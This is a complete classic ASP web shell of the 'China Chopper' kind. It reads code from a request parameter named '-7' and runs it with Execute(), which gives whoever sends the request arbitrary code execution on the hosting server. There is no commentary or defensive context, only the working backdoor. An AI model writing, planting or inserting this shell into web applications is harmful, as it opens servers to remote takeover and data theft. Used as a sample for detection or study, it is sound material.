<%@ codepage=65001%>
<%
chopper=request("-7")
Execute(chopper)
%>